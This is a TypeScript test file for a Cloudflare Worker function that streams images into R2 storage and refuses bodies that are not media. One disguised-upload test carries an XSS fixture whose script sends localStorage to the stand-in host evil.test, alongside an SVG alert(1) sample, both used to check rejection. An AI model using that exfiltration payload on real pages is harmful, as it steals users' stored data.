/**
 * copyImageToR2 against the real R2 binding, wrapped in a recorder: a result image is
 * streamed into R2, never held whole in memory, and arrives byte for byte, stored as the type
 * its first bytes show; a body that is not media is refused before anything is written.
 */
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { copyImageToR2, ImageCopyError, NOT_MEDIA } from "../../src/images/copy";

const MiB = 1024 * 1024;
/** The multipart part size of src/images/copy.ts (R2 wants at least 5 MiB but the last). */
const PART_BYTES = 8 * MiB;
const CHUNK = 64 * 1024;

const ascii = (text: string) => [...text].map((ch) => ch.charCodeAt(0));
/** The first bytes of a PNG (signature, IHDR chunk) and of a WebP: what the copy judges a file by. */
const PNG_HEAD = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, ...ascii("IHDR")];
const WEBP_HEAD = [...ascii("RIFF"), 0, 0, 0, 0, ...ascii("WEBPVP8L")];

/**
 * The byte at offset `k` of a generated file starting with `head`: past it, depends on the
 * position, so a lost or reordered part shows.
 */
function byteAt(k: number, head: readonly number[] = PNG_HEAD): number {
	return k < head.length ? head[k] : (k * 31 + Math.floor(k / 65_521)) & 0xff;
}

/** A lazily generated body of `total` bytes; `produced()` says how much the reader has pulled so far. */
function generatedBody(
	total: number,
	head: readonly number[] = PNG_HEAD,
): { body: ReadableStream<Uint8Array>; produced: () => number } {
	let offset = 0;
	const body = new ReadableStream<Uint8Array>(
		{
			pull(controller) {
				if (offset >= total) {
					controller.close();
					return;
				}
				const size = Math.min(CHUNK, total - offset);
				const chunk = new Uint8Array(size);
				for (let i = 0; i < size; i++) chunk[i] = byteAt(offset + i, head);
				offset += size;
				controller.enqueue(chunk);
			},
		},
		{ highWaterMark: 0 },
	);
	return { body, produced: () => offset };
}

interface RecordedPut {
	key: string;
	isStream: boolean;
	/** Bytes the source had produced when put was called. */
	producedAtCall: number;
}

interface RecordedPart {
	partNumber: number;
	size: number;
	producedAtCall: number;
}

/** The real IMAGES bucket, with what put and uploadPart receive recorded. */
function recordingBucket(produced: () => number) {
	const puts: RecordedPut[] = [];
	const parts: RecordedPart[] = [];
	const real = env.IMAGES;
	const bucket = new Proxy(real, {
		get(target, property) {
			if (property === "put") {
				return (key: string, value: Parameters<R2Bucket["put"]>[1], options?: R2PutOptions) => {
					puts.push({ key, isStream: value instanceof ReadableStream, producedAtCall: produced() });
					return target.put(key, value, options);
				};
			}
			if (property === "createMultipartUpload") {
				return async (key: string, options?: R2MultipartOptions) => {
					const upload = await target.createMultipartUpload(key, options);
					const recorded: R2MultipartUpload = {
						key: upload.key,
						uploadId: upload.uploadId,
						uploadPart: (partNumber, value, partOptions) => {
							const size =
								value instanceof ArrayBuffer || ArrayBuffer.isView(value)
									? value.byteLength
									: Number.NaN; /* streams and blobs have no size up front */
							parts.push({ partNumber, size, producedAtCall: produced() });
							return upload.uploadPart(partNumber, value, partOptions);
						},
						abort: () => upload.abort(),
						complete: (uploaded) => upload.complete(uploaded),
					};
					return recorded;
				};
			}
			const value = Reflect.get(target, property);
			return typeof value === "function" ? value.bind(target) : value;
		},
	});
	return { bucket, puts, parts };
}

/** Reads the stored object back and checks every byte against the generator. */
async function expectIntact(key: string, total: number, head: readonly number[] = PNG_HEAD): Promise<void> {
	const object = await env.IMAGES.get(key);
	expect(object, `no R2 object ${key}`).not.toBeNull();
	expect(object?.size).toBe(total);
	let offset = 0;
	let firstBad = -1;
	for await (const chunk of (object as R2ObjectBody).body) {
		for (let i = 0; i < chunk.byteLength && firstBad < 0; i++) {
			if (chunk[i] !== byteAt(offset + i, head)) firstBad = offset + i;
		}
		offset += chunk.byteLength;
	}
	expect(firstBad, "first byte that differs").toBe(-1);
	expect(offset).toBe(total);
}

describe("copyImageToR2", () => {
	it("with a declared length streams the body into one put, before the download is read", async () => {
		const total = 3 * MiB + 123;
		const source = generatedBody(total);
		const { bucket, puts, parts } = recordingBucket(source.produced);
		const key = `images/copy-known-${crypto.randomUUID()}`;
		const response = new Response(source.body, {
			headers: { "content-type": "image/png", "content-length": String(total) },
		});
		expect(await copyImageToR2(bucket, key, response)).toEqual({ key, contentType: "image/png", size: total });
		expect(puts).toHaveLength(1);
		expect(puts[0].key).toBe(key);
		expect(puts[0].isStream).toBe(true);
		// Handed over while the download had barely started: nothing was buffered first.
		expect(puts[0].producedAtCall).toBeLessThan(total);
		expect(parts).toHaveLength(0);
		expect((await env.IMAGES.head(key))?.httpMetadata?.contentType).toBe("image/png");
		await expectIntact(key, total);
	});

	it("without a content length uploads parts of PART_BYTES as the body arrives, then the rest", async () => {
		const total = 20 * MiB;
		const source = generatedBody(total, WEBP_HEAD);
		const { bucket, puts, parts } = recordingBucket(source.produced);
		const key = `images/copy-unknown-${crypto.randomUUID()}`;
		const response = new Response(source.body, { headers: { "content-type": "image/webp" } });
		expect(response.headers.get("content-length")).toBeNull();
		expect(await copyImageToR2(bucket, key, response)).toEqual({ key, contentType: "image/webp", size: total });
		expect(puts).toHaveLength(0);
		expect(parts.map((p) => p.partNumber)).toEqual([1, 2, 3]);
		expect(parts.map((p) => p.size)).toEqual([PART_BYTES, PART_BYTES, total - 2 * PART_BYTES]);
		// Each part went up once it was full, not after the whole body was read.
		expect(parts[0].producedAtCall).toBeLessThan(PART_BYTES + 2 * CHUNK);
		expect(parts[1].producedAtCall).toBeLessThan(2 * PART_BYTES + 2 * CHUNK);
		expect((await env.IMAGES.head(key))?.httpMetadata?.contentType).toBe("image/webp");
		await expectIntact(key, total, WEBP_HEAD);
	});

	it("refuses a download that is not an image without writing anything", async () => {
		const source = generatedBody(1000, ascii("<!doctype html><script>"));
		const { bucket, puts, parts } = recordingBucket(source.produced);
		const key = `images/copy-html-${crypto.randomUUID()}`;
		const response = new Response(source.body, { headers: { "content-type": "text/html; charset=utf-8" } });
		const error = await copyImageToR2(bucket, key, response).catch((e: unknown) => e);
		expect(error).toBeInstanceOf(ImageCopyError);
		expect((error as ImageCopyError).retryable).toBe(false);
		expect(puts).toHaveLength(0);
		expect(parts).toHaveLength(0);
		expect(await env.IMAGES.head(key)).toBeNull();
	});

	it.each([
		["an SVG with a script", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
		["an HTML page", "<!doctype html><html><script>fetch('//evil.test/?'+localStorage.x)</script></html>"],
	])("refuses %s declared as image/png, by its bytes, writing nothing", async (_name, text) => {
		const source = generatedBody(text.length, ascii(text));
		const { bucket, puts, parts } = recordingBucket(source.produced);
		const key = `images/copy-disguised-${crypto.randomUUID()}`;
		const response = new Response(source.body, {
			headers: { "content-type": "image/png", "content-length": String(text.length) },
		});
		const error = await copyImageToR2(bucket, key, response).catch((e: unknown) => e);
		expect(error).toBeInstanceOf(ImageCopyError);
		expect((error as ImageCopyError).message).toBe(`${NOT_MEDIA} (declared "image/png")`);
		expect((error as ImageCopyError).retryable).toBe(false);
		expect(puts).toHaveLength(0);
		expect(parts).toHaveLength(0);
		expect(await env.IMAGES.head(key)).toBeNull();
	});

	it.each([
		["PNG", PNG_HEAD, "image/png"],
		["JPEG", [0xff, 0xd8, 0xff, 0xe0, 0, 0x10, ...ascii("JFIF")], "image/jpeg"],
		["WebP", WEBP_HEAD, "image/webp"],
		["GIF", ascii("GIF89a"), "image/gif"],
		["MP4", [0, 0, 0, 0x20, ...ascii("ftypisom"), 0, 0, 2, 0], "video/mp4"],
		["WebM", [0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x86, 0x81, 1, 0x42, 0x82, 0x84, ...ascii("webm")], "video/webm"],
	])("stores a %s as the type its bytes show, whatever the upstream declared", async (_name, head, type) => {
		const total = 4096;
		for (const declared of ["application/octet-stream", "text/html", null]) {
			const source = generatedBody(total, head);
			const key = `images/copy-sniffed-${crypto.randomUUID()}`;
			const headers = new Headers({ "content-length": String(total) });
			if (declared) headers.set("content-type", declared);
			expect(await copyImageToR2(env.IMAGES, key, new Response(source.body, { headers }))).toEqual({
				key,
				contentType: type,
				size: total,
			});
			expect((await env.IMAGES.head(key))?.httpMetadata?.contentType).toBe(type);
			await expectIntact(key, total, head);
		}
	});
});
